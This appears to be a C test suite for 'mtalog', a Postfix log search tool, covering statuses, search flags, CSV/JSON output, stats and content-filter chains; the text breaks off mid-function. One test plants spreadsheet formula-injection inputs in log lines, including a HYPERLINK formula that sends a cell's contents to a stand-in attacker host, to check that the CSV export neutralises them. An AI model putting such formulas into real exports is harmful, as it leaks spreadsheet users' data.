/*
 * End-to-end tests of the mtalog command on Postfix logs: every status,
 * every search flag and output format, show, stats, mail through content
 * filters.  Data: tests/data/statuses.log (one message per status, with the
 * lines Postfix writes for it) and tests/data/filters.log (amavis after the
 * queue, re-injected under a new queue ID; rspamd and clamav-milter as
 * milters); the corpus tier ingests the Postfix files of the corpus.
 */
#include "testlib.h"

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "tools/output.h"

static char dir[4096];
static char db[4200];
#define STATUSES "tests/data/statuses.log"

/* Rows of a --json search, as a JSON array. */
static json_t *rows(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static json_t *rows(const char *fmt, ...)
{
	char args[4096];
	va_list ap;
	va_start(ap, fmt);
	vsnprintf(args, sizeof args, fmt, ap);
	va_end(ap);
	char *out, *err;
	int rc = tl_mtalog(&out, &err, "--db %s search --json %s", db, args);
	if (rc != 0)
		fail_msg("search %s: exit %d: %s", args, rc, err);
	json_t *arr = json_array();
	char *save = NULL;
	for (char *line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		json_error_t je;
		json_t *j = json_loads(line, 0, &je);
		if (!j)
			fail_msg("bad JSON line: %s", line);
		json_array_append_new(arr, j);
	}
	free(out);
	free(err);
	return arr;
}

static const char *sget(json_t *o, const char *k)
{
	json_t *v = json_object_get(o, k);
	assert_non_null(v);
	return json_is_string(v) ? json_string_value(v) : "";
}

static size_t count(const char *fmt, const char *arg)
{
	char args[1024];
	snprintf(args, sizeof args, fmt, arg);
	json_t *r = rows("%s", args);
	size_t n = json_array_size(r);
	json_decref(r);
	return n;
}

static int strcmp_ptr(const char **a, const char **b)
{
	return strcmp(*a, *b);
}

static int setup(void **state)
{
	(void)state;
	snprintf(dir, sizeof dir, "%s", tl_tmpdir());
	snprintf(db, sizeof db, "%s/t.db", dir);
	char *err;
	int rc = tl_mtalog(NULL, &err, "--db %s ingest --year 2026 --local-domains example.com %s", db, STATUSES);
	if (rc != 0)
		fail_msg("ingest failed: %s", err);
	free(err);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	tl_rmdir(dir);
	return 0;
}

static void every_status(void **state)
{
	(void)state;
	struct { const char *st; size_t n; } want[] = {
		{ "delivered", 5 }, { "delayed", 1 }, { "bounced", 1 }, { "expired", 1 },
		{ "queued", 2 }, { "quarantined", 1 }, { "blocked", 3 },
		{ "cleared", 10 }, { "released", 1 }, { "bounced,expired", 2 },
	};
	for (size_t i = 0; i < ML_ARRAY_LEN(want); i++) {
		json_t *r = rows("--status %s", want[i].st);
		if (json_array_size(r) != want[i].n)
			fail_msg("--status %s: %zu rows, want %zu", want[i].st, json_array_size(r), want[i].n);
		json_decref(r);
	}
	json_t *r = rows("--status delayed");
	assert_string_equal(sget(json_array_get(r, 0), "to"), "dave@slow.example");
	assert_string_equal(sget(json_array_get(r, 0), "dsn"), "4.4.1");
	assert_string_equal(sget(json_array_get(r, 0), "direction"), "outbound");
	json_decref(r);
	r = rows("--status bounced");
	assert_string_equal(sget(json_array_get(r, 0), "queue_id"), "3C4D5E6F7A");
	assert_non_null(strstr(sget(json_array_get(r, 0), "reason"), "User unknown in virtual mailbox table"));
	assert_string_equal(sget(json_array_get(r, 0), "dsn"), "5.1.1");
	json_decref(r);
	/* held, released, delivered: delivered and in the released group */
	r = rows("--status released");
	assert_string_equal(sget(json_array_get(r, 0), "status"), "delivered");
	assert_string_equal(sget(json_array_get(r, 0), "to"), "judy@example.com");
	json_decref(r);
	/* held, then deleted: stays quarantined */
	r = rows("--status quarantined");
	assert_string_equal(sget(json_array_get(r, 0), "to"), "ivan@example.com");
	json_decref(r);
	/* the NOQUEUE reject is a row of its own, with no queue ID */
	r = rows("--status blocked --to kate@example.com");
	assert_int_equal(json_array_size(r), 1);
	assert_string_equal(sget(json_array_get(r, 0), "queue_id"), "");
	assert_string_equal(sget(json_array_get(r, 0), "client_ip"), "203.0.113.99");
	assert_non_null(strstr(sget(json_array_get(r, 0), "reason"), "Relay access denied"));
	json_decref(r);
	/* a reject: RCPT logged with a queue ID is a blocked row of that message */
	r = rows("--queue-id 0D1E2F3A4B --status blocked");
	assert_int_equal(json_array_size(r), 1);
	assert_string_equal(sget(json_array_get(r, 0), "to"), "ghost@example.com");
	json_decref(r);
	/* milter-reject in cleanup */
	r = rows("--to mike@example.com");
	assert_string_equal(sget(json_array_get(r, 0), "status"), "blocked");
	json_decref(r);
	r = rows("--status expired");
	assert_string_equal(sget(json_array_get(r, 0), "to"), "gina@faraway.example");
	json_decref(r);
}

static void search_flags(void **state)
{
	(void)state;
	assert_int_equal(count("--from %s", "alice@sender.example"), 1);
	assert_int_equal(count("--from %s", "ALICE@Sender.Example"), 1);
	assert_int_equal(count("--from %s", "@example.com"), 3);
	assert_int_equal(count("--from %s", "example.com"), 3);
	assert_int_equal(count("--from %s", "car*"), 1);
	assert_int_equal(count("--from %s", "@exam*"), 5);  /* example.com x3, example.net, example.org */
	assert_int_equal(count("--from %s", "'<>'"), 2);
	assert_int_equal(count("--to %s", "bob@example.com"), 2);
	assert_int_equal(count("--to %s", "sales@example.com"), 2);  /* matches orig_to */
	assert_int_equal(count("--to %s", "@example.com"), 9);
	assert_int_equal(count("--to %s", "nobody@nowhere.example"), 0);
	assert_int_equal(count("--subject %s", "quarterly"), 1);
	assert_int_equal(count("--subject %s", "'QUARTERLY Report'"), 1);
	assert_int_equal(count("--subject %s", "äpfel"), 1);
	assert_int_equal(count("--subject %s", "ÄPFEL"), 1);
	assert_int_equal(count("--subject %s", "'\"report äpfel\"'"), 1);
	assert_int_equal(count("--subject %s", "'\"äpfel report\"'"), 0);
	assert_int_equal(count("--subject %s", "réunion"), 1);
	assert_int_equal(count("--subject %s", "'quarterly invoice'"), 0);
	assert_int_equal(count("--subject-re %s", "'^r.union'"), 1);
	assert_int_equal(count("--subject-re %s", "'overdue$'"), 1);
	assert_int_equal(count("--subject-re %s --from @example.com", "'^(Invoice|R)'"), 2);
	assert_int_equal(count("--direction %s", "out"), 3);
	assert_int_equal(count("--direction %s", "in"), 9);
	assert_int_equal(count("--since %s", "2026-03-03T10:06:00Z"), 6);
	assert_int_equal(count("--until %s", "2026-03-03T10:02:00Z"), 3);
	assert_int_equal(count("--since 2026-03-03T10:02:00Z --until %s", "2026-03-03T10:03:59Z"), 4);
	assert_int_equal(count("--since %s", "2026-03-04"), 0);
	/* until before 1970 is before every row (not "no until") */
	assert_int_equal(count("--until %s", "1969-12-31"), 0);
	assert_int_equal(count("--until %s", "1960-01-01"), 0);
	assert_int_equal(count("--until %s", "2999999w"), 0);
	assert_int_equal(count("--since %s", "1960-01-01"), 14);
	assert_int_equal(count("--msgid %s", "m3@example.com"), 1);
	assert_int_equal(count("--msgid %s", "'<m3@example.com>'"), 1);
	assert_int_equal(count("--ip %s", "192.0.2.10"), 1);
	assert_int_equal(count("--host %s", "mx2"), 6);
	assert_int_equal(count("--host %s", "MX2"), 6);
	assert_int_equal(count("--queue-id %s", "0D1E2F3A4B"), 3);
	assert_int_equal(count("--limit %s", "2"), 2);
	assert_int_equal(count("--from @example.com --to %s", "@slow.example"), 1);
	assert_int_equal(count("--status delivered --to %s", "@example.com"), 5);
	/* status and recipient together are one row: ghost@ was blocked, alice@ and
	 * bob@ of the same message delivered */
	assert_int_equal(count("--status blocked --to %s", "@example.com"), 3);
	assert_int_equal(count("--status blocked --to %s", "bob@example.com"), 0);
	assert_int_equal(count("--status delivered,blocked --queue-id 0D1E2F3A4B --to %s", "example.com"), 3);
	assert_int_equal(count("--status released --to %s", "@example.com"), 1);
	/* newest first */
	json_t *r = rows("%s", "");
	assert_int_equal(json_array_size(r), 14);
	for (size_t i = 1; i < json_array_size(r); i++)
		assert_true(strcmp(sget(json_array_get(r, i - 1), "time"), sget(json_array_get(r, i), "time")) >= 0);
	json_decref(r);
	/* bad values are refused with the flag's name */
	char *out, *err;
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --status nonsense", db), 1);
	assert_non_null(strstr(err, "status"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --limit 5000", db), 1);
	assert_non_null(strstr(err, "limit"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --subject-re '('", db), 1);
	assert_non_null(strstr(err, "subject_re"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --since yesterdayish", db), 1);
	assert_non_null(strstr(err, "since"));
	free(out); free(err);
	/* a year that is not one */
	static const char *const years[] = { "abc", "-5", "2147483647", "", "2026x", "1969" };
	for (size_t i = 0; i < ML_ARRAY_LEN(years); i++) {
		assert_int_equal(tl_mtalog(&out, &err, "--db %s/year.db ingest --year '%s' tests/data/statuses.log", dir, years[i]), 1);
		if (!strstr(err, "--year"))
			fail_msg("--year '%s': %s", years[i], err);
		free(out); free(err);
	}
}

static void json_keys_and_subjects(void **state)
{
	(void)state;
	static const char *const keys[] = { "id", "time", "host", "queue_id", "direction", "from", "to",
		"orig_to", "subject", "status", "dsn", "relay", "delay", "reason", "message_id", "client_ip", "size",
		"released", "reported" };
	json_t *r = rows("--queue-id %s", "1A2B3C4D5E");
	assert_int_equal(json_array_size(r), 1);
	json_t *row = json_array_get(r, 0);
	assert_int_equal(json_object_size(row), ML_ARRAY_LEN(keys));
	for (size_t i = 0; i < ML_ARRAY_LEN(keys); i++)
		assert_non_null(json_object_get(row, keys[i]));
	assert_string_equal(sget(row, "subject"), "Quarterly report äpfel");
	assert_string_equal(sget(row, "time"), "2026-03-03T10:00:01Z");
	assert_string_equal(sget(row, "host"), "mx1");
	assert_string_equal(sget(row, "relay"), "mailstore.example.com[private/dovecot-lmtp]");
	assert_string_equal(sget(row, "message_id"), "m1@sender.example");
	assert_string_equal(sget(row, "direction"), "inbound");
	assert_true(json_real_value(json_object_get(row, "delay")) > 0.34 &&
	            json_real_value(json_object_get(row, "delay")) < 0.36);
	assert_int_equal(json_integer_value(json_object_get(row, "size")), 2048);
	json_decref(r);
	r = rows("--queue-id %s", "3C4D5E6F7A");
	assert_string_equal(sget(json_array_get(r, 0), "subject"), "Réunion de l'équipe");
	json_decref(r);
	r = rows("--to %s", "alice@example.com");
	assert_string_equal(sget(json_array_get(r, 0), "orig_to"), "sales@example.com");
	json_decref(r);
}

/* Subjects without spaces between words (Japanese, Chinese, Korean): a word
 * inside them is found, as RFC 2047 UTF-8 or as raw UTF-8. */
static void cjk_subjects(void **state)
{
	(void)state;
	char log[4200], cdb[4200];
	snprintf(log, sizeof log, "%s/cjk.log", dir);
	snprintf(cdb, sizeof cdb, "%s/cjk.db", dir);
	/* =?UTF-8?B?...?= is "年末年始休業のお知らせ" */
	const char *lines =
		"Dec 20 09:00:00 mx1 postfix/smtpd[10]: 1A2B3C4D5E: client=mail.example.jp[192.0.2.5]\n"
		"Dec 20 09:00:01 mx1 postfix/cleanup[11]: 1A2B3C4D5E: info: header Subject: =?UTF-8?B?5bm05pyr5bm05aeL5LyR5qWt44Gu44GK55+l44KJ44Gb?= from mail.example.jp[192.0.2.5]; from=<tanaka@example.jp> to=<bob@example.com> proto=ESMTP helo=<mail.example.jp>\n"
		"Dec 20 09:00:01 mx1 postfix/cleanup[11]: 1A2B3C4D5E: message-id=<cjk1@example.jp>\n"
		"Dec 20 09:00:02 mx1 postfix/qmgr[12]: 1A2B3C4D5E: from=<tanaka@example.jp>, size=2000, nrcpt=1 (queue active)\n"
		"Dec 20 09:00:03 mx1 postfix/lmtp[13]: 1A2B3C4D5E: to=<bob@example.com>, relay=store[192.0.2.40]:24, delay=3, delays=1/0/1/1, dsn=2.0.0, status=sent (250 2.0.0 Ok)\n"
		"Dec 20 09:00:03 mx1 postfix/qmgr[12]: 1A2B3C4D5E: removed\n"
		"Dec 20 09:10:00 mx1 postfix/smtpd[10]: 2B3C4D5E6F: client=mail.example.kr[192.0.2.6]\n"
		"Dec 20 09:10:01 mx1 postfix/cleanup[11]: 2B3C4D5E6F: info: header Subject: 공지사항: 연말 휴무 from mail.example.kr[192.0.2.6]; from=<kim@example.kr> to=<bob@example.com> proto=ESMTP helo=<mail.example.kr>\n"
		"Dec 20 09:10:02 mx1 postfix/qmgr[12]: 2B3C4D5E6F: from=<kim@example.kr>, size=2000, nrcpt=1 (queue active)\n"
		"Dec 20 09:10:03 mx1 postfix/lmtp[13]: 2B3C4D5E6F: to=<bob@example.com>, relay=store[192.0.2.40]:24, delay=3, delays=1/0/1/1, dsn=2.0.0, status=sent (250 2.0.0 Ok)\n"
		"Dec 20 09:10:03 mx1 postfix/qmgr[12]: 2B3C4D5E6F: removed\n";
	tl_write_file(log, lines, strlen(lines));
	char *err = NULL;
	if (tl_mtalog(NULL, &err, "--db %s ingest --year 2026 %s", cdb, log) != 0)
		fail_msg("ingest: %s", err);
	free(err);
	struct { const char *q; int want; } cases[] = {
		{ "お知らせ", 1 }, { "休業", 1 }, { "年末年始", 1 }, { "知らせ", 1 },
		{ "'\"休業のお知らせ\"'", 1 }, { "'年末 お知らせ'", 1 },
		{ "会議", 0 }, { "お知らせ休業", 0 },
		{ "공지사항", 1 }, { "휴무", 1 }, { "연말", 1 },
	};
	for (size_t i = 0; i < ML_ARRAY_LEN(cases); i++) {
		char *out = NULL;
		err = NULL;
		if (tl_mtalog(&out, &err, "--db %s search --csv --subject %s", cdb, cases[i].q) != 0)
			fail_msg("search %s: %s", cases[i].q, err);
		int n = 0;  /* lines after the header */
		for (char *p = strchr(out, '\n'); p && p[1]; p = strchr(p + 1, '\n'))
			n++;
		if (n != cases[i].want)
			fail_msg("--subject %s: %d rows, expected %d\n%s", cases[i].q, n, cases[i].want, out);
		free(out);
		free(err);
	}
}

static void csv_and_table(void **state)
{
	(void)state;
	char *out, *err;
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --csv --host mx2", db), 0);
	assert_int_equal(tl_count_lines(out), 7);  /* header + 6 rows */
	assert_true(strncmp(out, "id,time,host,queue_id,direction,from,to,orig_to,subject,status", 62) == 0);
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --csv --queue-id 3C4D5E6F7A", db), 0);
	assert_non_null(strstr(out, ",host mx.remote.example[203.0.113.7] said: 550 5.1.1 <nobody@remote.example>: Recipient address rejected: User unknown in virtual mailbox table (in reply to RCPT TO command),"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --csv --queue-id 2B3C4D5E6F", db), 0);
	assert_non_null(strstr(out, ",connect to mx.slow.example[203.0.113.5]:25: Connection timed out,"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --to @example.com", db), 0);
	assert_int_equal(tl_count_lines(out), 10);
	assert_non_null(strstr(out, "TIME (UTC)"));
	assert_non_null(strstr(out, "judy@example.com"));
	assert_non_null(strstr(err, "9 rows"));
	free(out); free(err);
	/* released from quarantine: a mark beside the status in the table, a
	 * column of the CSV */
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --to judy@example.com", db), 0);
	assert_non_null(strstr(out, "delivered (released)"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --to bob@example.com", db), 0);
	assert_null(strstr(out, "(released)"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --csv --to judy@example.com", db), 0);
	assert_non_null(strstr(out, ",size,released,reported\r\n"));
	assert_non_null(strstr(out, ",true,false\r\n"));
	free(out); free(err);
}

/* A subject or an address a spreadsheet would run as a formula is
 * exported as text (OWASP: a quote before it); the same cell in JSON is
 * as logged. */
static void csv_formulas(void **state)
{
	(void)state;
	char log[4200], fdb[4200];
	snprintf(log, sizeof log, "%s/formula.log", dir);
	snprintf(fdb, sizeof fdb, "%s/formula.db", dir);
	const char *lines =
		"Dec 20 09:00:00 mx1 postfix/smtpd[10]: 1A2B3C4D5E: client=mail.evil.example[192.0.2.5]\n"
		"Dec 20 09:00:01 mx1 postfix/cleanup[11]: 1A2B3C4D5E: info: header Subject: =HYPERLINK(\"http://evil.example/?\"&A1,\"click\") from mail.evil.example[192.0.2.5]; from=<-cmd@evil.example> to=<bob@example.com> proto=ESMTP helo=<mail.evil.example>\n"
		"Dec 20 09:00:02 mx1 postfix/qmgr[12]: 1A2B3C4D5E: from=<-cmd@evil.example>, size=2000, nrcpt=1 (queue active)\n"
		"Dec 20 09:00:03 mx1 postfix/lmtp[13]: 1A2B3C4D5E: to=<bob@example.com>, relay=store[192.0.2.40]:24, delay=3, delays=1/0/1/1, dsn=2.0.0, status=sent (250 2.0.0 Ok)\n"
		"Dec 20 09:00:03 mx1 postfix/qmgr[12]: 1A2B3C4D5E: removed\n"
		"Dec 20 09:10:00 mx1 postfix/smtpd[10]: 2B3C4D5E6F: client=mail.evil.example[192.0.2.5]\n"
		"Dec 20 09:10:01 mx1 postfix/cleanup[11]: 2B3C4D5E6F: info: header Subject: +1 -2 @SUM(A1) from mail.evil.example[192.0.2.5]; from=<@x.example> to=<bob@example.com> proto=ESMTP helo=<mail.evil.example>\n"
		"Dec 20 09:10:02 mx1 postfix/qmgr[12]: 2B3C4D5E6F: from=<a@x.example>, size=2000, nrcpt=1 (queue active)\n"
		"Dec 20 09:10:03 mx1 postfix/lmtp[13]: 2B3C4D5E6F: to=<bob@example.com>, relay=store[192.0.2.40]:24, delay=3, delays=1/0/1/1, dsn=2.0.0, status=sent (250 2.0.0 Ok)\n"
		"Dec 20 09:10:03 mx1 postfix/qmgr[12]: 2B3C4D5E6F: removed\n";
	tl_write_file(log, lines, strlen(lines));
	char *out, *err;
	if (tl_mtalog(NULL, &err, "--db %s ingest --year 2026 %s", fdb, log) != 0)
		fail_msg("ingest: %s", err);
	free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --csv", fdb), 0);
	assert_int_equal(tl_count_lines(out), 3);
	assert_non_null(strstr(out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","));
	assert_non_null(strstr(out, ",\"'-cmd@evil.example\","));
	assert_non_null(strstr(out, ",\"'+1 -2 @SUM(A1)\","));
	/* numbers stay numbers; nothing else is quoted */
	assert_null(strstr(out, ",\"'2"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --json --from -cmd@evil.example", fdb), 0);
	assert_non_null(strstr(out, "\"subject\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")\""));
	free(out); free(err);
}

static void local_time(void **state)
{
	(void)state;
	char *out, *err;
	/* TZ in the environment of the command: Berlin is UTC+1 in March */
	setenv("TZ", "Europe/Berlin", 1);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --local --queue-id 1A2B3C4D5E", db), 0);
	unsetenv("TZ");
	if (access("/usr/share/zoneinfo/Europe/Berlin", R_OK) == 0)
		assert_non_null(strstr(out, "2026-03-03 11:00:01 +0100"));
	assert_null(strstr(out, "(UTC)"));
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --utc --queue-id 1A2B3C4D5E", db), 0);
	assert_non_null(strstr(out, "2026-03-03 10:00:01"));
	assert_non_null(strstr(out, "TIME (UTC)"));
	free(out); free(err);
}

static void show_message(void **state)
{
	(void)state;
	json_t *r = rows("--queue-id %s", "3C4D5E6F7A");
	const char *id = sget(json_array_get(r, 0), "id");
	char *out, *err;
	assert_int_equal(tl_mtalog(&out, &err, "--db %s show %s --json", db, id), 0);
	json_error_t je;
	json_t *m = json_loads(out, 0, &je);
	assert_non_null(m);
	assert_string_equal(sget(m, "from"), "erin@example.com");
	assert_string_equal(sget(m, "bounce_queue_id"), "4D5E6F7A8B");
	assert_string_equal(sget(m, "sasl_username"), "erin@example.com");
	json_t *raw = json_object_get(m, "raw");
	assert_int_equal(json_array_size(raw), 7);
	assert_int_equal(json_array_size(json_object_get(m, "events")), 7);
	assert_int_equal(json_array_size(json_object_get(m, "recipients")), 1);
	assert_non_null(strstr(json_string_value(json_array_get(raw, 0)), "3C4D5E6F7A: client=laptop.example.com"));
	json_decref(m);
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s show %s", db, id), 0);
	assert_non_null(strstr(out, "bounced     nobody@remote.example"));
	assert_non_null(strstr(out, "raw lines:"));
	free(out); free(err);
	/* the bounce knows its original */
	json_decref(r);
	r = rows("--queue-id %s", "4D5E6F7A8B");
	id = sget(json_array_get(r, 0), "id");
	assert_int_equal(tl_mtalog(&out, &err, "--db %s show %s --json", db, id), 0);
	m = json_loads(out, 0, &je);
	assert_string_equal(sget(m, "original_queue_id"), "3C4D5E6F7A");
	json_decref(m);
	free(out); free(err);
	json_decref(r);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s show 12345", db), 1);
	assert_non_null(strstr(err, "no message 12345"));
	free(out); free(err);
}

static void stats_counts(void **state)
{
	(void)state;
	char *out, *err;
	assert_int_equal(tl_mtalog(&out, &err, "--db %s stats --json", db), 0);
	json_error_t je;
	json_t *s = json_loads(out, 0, &je);
	assert_non_null(s);
	assert_int_equal(json_integer_value(json_object_get(s, "messages")), 12);
	json_t *rs = json_object_get(s, "rows_by_status");
	assert_int_equal(json_integer_value(json_object_get(rs, "delivered")), 5);
	assert_int_equal(json_integer_value(json_object_get(rs, "blocked")), 3);
	assert_int_equal(json_integer_value(json_object_get(rs, "queued")), 2);
	assert_int_equal(json_integer_value(json_object_get(s, "lines_parsed")), 57);
	assert_int_equal(json_integer_value(json_object_get(json_object_get(s, "lines_skipped"), "total")), 2);
	assert_int_equal(json_integer_value(json_object_get(json_object_get(s, "lines_not_understood"), "total")), 0);
	assert_true(json_integer_value(json_object_get(s, "db_bytes")) > 0);
	/* health: newest message, lag, each input's checkpoint, the map */
	assert_string_equal(json_string_value(json_object_get(s, "newest_message")), "2026-03-03T10:09:00Z");
	assert_true(json_integer_value(json_object_get(s, "lag_seconds")) > 0);
	json_t *inputs = json_object_get(s, "inputs");
	assert_int_equal(json_array_size(inputs), 1);
	assert_int_equal(json_integer_value(json_object_get(json_array_get(inputs, 0), "lines")), 59);
	assert_non_null(strstr(json_string_value(json_object_get(json_array_get(inputs, 0), "path")), "statuses.log"));
	assert_true(json_integer_value(json_object_get(s, "map_used_bytes")) > 0);
	assert_true(json_integer_value(json_object_get(s, "map_bytes")) >= json_integer_value(json_object_get(s, "map_used_bytes")));
	/* where the bytes are: every part of the file named, together no more
	 * than the file; in so small a log every message is still in flight
	 * or among the newest, held apart */
	json_t *sp = json_object_get(s, "space");
	const char *parts[] = { "rows", "raw_lines", "postings", "in_flight", "meta", "free" };
	json_int_t sum = 0;
	for (size_t i = 0; i < ML_ARRAY_LEN(parts); i++) {
		json_t *v = json_object_get(sp, parts[i]);
		assert_true(json_is_integer(v));
		sum += json_integer_value(v);
	}
	assert_true(sum <= json_integer_value(json_object_get(s, "map_used_bytes")));
	assert_true(json_integer_value(json_object_get(sp, "postings")) > 0);
	assert_true(json_integer_value(json_object_get(sp, "in_flight")) > 0);
	json_decref(s);
	free(out); free(err);
}

/* Fails when text (what the command said, named by what) holds a word of
 * the code's own rather than the user's. */
static void no_jargon(const char *text, const char *what)
{
	static const char *const words[] = { "posting", "docid", "record", "scanned", "indexed", "checkpoint",
	                                     "commit", "map ", "txn", "cursor", "mdb", "lmdb", "e+0" };
	for (size_t i = 0; i < ML_ARRAY_LEN(words); i++)
		if (strcasestr(text, words[i]))
			fail_msg("%s says \"%s\": %s", what, words[i], text);
}

/* What the commands say to a person: delays and ages in units, the counts
 * of stats explained, and none of the code's own words. */
static void words_for_people(void **state)
{
	(void)state;
	char *out, *err;
	json_t *r = rows("--to dave@slow.example");
	assert_int_equal(tl_mtalog(&out, &err, "--db %s show %s", db, sget(json_array_get(r, 0), "id")), 0);
	json_decref(r);
	assert_non_null(strstr(out, "delay=10 min"));  /* delay=600 */
	no_jargon(out, "show");
	free(out); free(err);
	r = rows("--queue-id 1A2B3C4D5E");
	assert_int_equal(tl_mtalog(&out, &err, "--db %s show %s", db, sget(json_array_get(r, 0), "id")), 0);
	json_decref(r);
	assert_non_null(strstr(out, "delay=0.35 s"));
	free(out); free(err);

	assert_int_equal(tl_mtalog(&out, &err, "--db %s stats --json", db), 0);
	json_error_t je;
	json_t *s = json_loads(out, 0, &je);
	assert_non_null(s);
	char ago[64], want[160];
	ml_out_duration((double)json_integer_value(json_object_get(s, "lag_seconds")), ago, sizeof ago);
	json_decref(s);
	free(out); free(err);
	snprintf(want, sizeof want, "newest message      2026-03-03T10:09:00Z (%s ago)", ago);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s stats", db), 0);
	assert_non_null(strstr(out, want));
	assert_non_null(strstr(out, "in flight         3         not finished at the last line read"));
	assert_non_null(strstr(out, "queued            2         accepted, no delivery attempt logged yet"));
	assert_non_null(strstr(out, "one row per message and recipient"));
	no_jargon(out, "stats");
	free(out); free(err);

	/* a search without a filter that narrows it, and one with */
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search", db), 0);
	assert_non_null(strstr(err, "read message by message, newest first"));
	no_jargon(err, "search");
	free(out); free(err);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --to @example.com", db), 0);
	assert_null(strstr(err, "message by message"));
	free(out); free(err);
	/* the report of an ingest */
	char db2[4300];
	snprintf(db2, sizeof db2, "%s/words.db", dir);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s ingest --year 2026 " STATUSES, db2), 0);
	assert_non_null(strstr(err, "12 messages stored"));
	no_jargon(err, "ingest");
	free(out); free(err);
}

/* Message id of database mdb is the last hop of a mail that went through
 * amavis after first_qid: show gives the whole chain, each hop with its
 * events (amavis's verdict among the first hop's), as JSON and as text. */
static void expect_amavis_chain(const char *mdb, const char *id, const char *first_qid)
{
	char *out, *err;
	assert_int_equal(tl_mtalog(&out, &err, "--db %s show %s --json", mdb, id), 0);
	json_error_t je;
	json_t *r = json_loads(out, 0, &je);
	assert_non_null(r);
	free(out); free(err);
	assert_string_equal(sget(r, "previous_queue_id"), first_qid);
	json_t *chain = json_object_get(r, "chain");
	assert_int_equal(json_array_size(chain), 2);
	assert_string_equal(sget(json_array_get(chain, 0), "relation"), "before filter");
	assert_string_equal(sget(json_array_get(chain, 0), "queue_id"), first_qid);
	assert_string_equal(sget(json_array_get(chain, 1), "relation"), "this");
	json_t *ev = json_object_get(json_array_get(chain, 0), "events");
	int amavis = 0;
	for (size_t i = 0; i < json_array_size(ev); i++)
		amavis |= !strcmp(sget(json_array_get(ev, i), "program"), "amavis");
	assert_true(amavis);
	json_decref(r);
	assert_int_equal(tl_mtalog(&out, &err, "--db %s show %s", mdb, id), 0);
	char want[96];
	snprintf(want, sizeof want, "before filter %s", first_qid);
	assert_non_null(strstr(out, want));
	free(out); free(err);
}

/* The row `search --json ARGS` finds in database fdb; fails unless there is
 * exactly one. */
static json_t *one_row(const char *fdb, const char *args)
{
	char *out, *err;
	if (tl_mtalog(&out, &err, "--db %s search --json %s", fdb, args) != 0)
		fail_msg("search %s: %s", args, err);
	if (tl_count_lines(out) != 1)
		fail_msg("search %s: %zu rows, want 1", args, tl_count_lines(out));
	json_error_t je;
	json_t *r = json_loads(out, 0, &je);
	assert_non_null(r);
	free(out);
	free(err);
	return r;
}

/* Postfix → amavis → Postfix: the first hop's queue ID, the message-id and
 * the last hop's queue ID all find the one row of the final fate, with the
 * client and the original address of the first hop; the row that went to
 * the filter is not shown; show gives every hop.  Milters: rspamd's and
 * clamav-milter's rejects. */
static void content_filters(void **state)
{
	(void)state;
	char fdb[4300];
	snprintf(fdb, sizeof fdb, "%s/filters.db", dir);
	char *out, *err;
	assert_int_equal(tl_mtalog(&out, &err, "--db %s ingest --quiet --year 2026 --local-domains example.com "
	                           "tests/data/filters.log", fdb), 0);
	free(out); free(err);
	json_t *r = one_row(fdb, "--queue-id 7A1B2C3D4E");
	assert_string_equal(sget(r, "queue_id"), "7A1B2C3D5F");
	assert_string_equal(sget(r, "status"), "delivered");
	assert_string_equal(sget(r, "to"), "bob@example.com");
	assert_string_equal(sget(r, "orig_to"), "sales@example.com");
	assert_string_equal(sget(r, "relay"), "mailstore.example.com[private/dovecot-lmtp]");
	assert_string_equal(sget(r, "client_ip"), "198.51.100.7");
	assert_string_equal(sget(r, "direction"), "inbound");
	char id[32];
	snprintf(id, sizeof id, "%s", sget(r, "id"));
	json_decref(r);
	r = one_row(fdb, "--msgid f1@partner.example");
	assert_string_equal(sget(r, "id"), id);
	json_decref(r);
	r = one_row(fdb, "--queue-id 7A1B2C3D5F");
	assert_string_equal(sget(r, "id"), id);
	json_decref(r);
	r = one_row(fdb, "--to sales@example.com");
	assert_string_equal(sget(r, "id"), id);
	json_decref(r);

	expect_amavis_chain(fdb, id, "7A1B2C3D4E");

	/* two recipients through the filter: each with its own fate after it */
	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --json --queue-id 4Pbt6Q1Wk9zJfC2", fdb), 0);
	assert_int_equal(tl_count_lines(out), 2);
	free(out); free(err);
	r = one_row(fdb, "--queue-id 4Pbt6Q1Wk9zJfC2 --status delayed");
	assert_string_equal(sget(r, "to"), "henry@example.com");
	assert_string_equal(sget(r, "dsn"), "4.2.2");
	assert_string_equal(sget(r, "queue_id"), "4Pbt6R2Xm0zJfD3");
	json_decref(r);

	/* milters: rspamd's reject, clamav-milter's virus */
	r = one_row(fdb, "--to ivan@example.com");
	assert_string_equal(sget(r, "status"), "blocked");
	assert_string_equal(sget(r, "message_id"), "r5@cheap.example");
	assert_non_null(strstr(sget(r, "reason"), "Spam message rejected"));
	json_decref(r);
	r = one_row(fdb, "--to judy@example.com --status blocked");
	assert_non_null(strstr(sget(r, "reason"), "Virus found"));
	json_decref(r);

	/* every line understood */
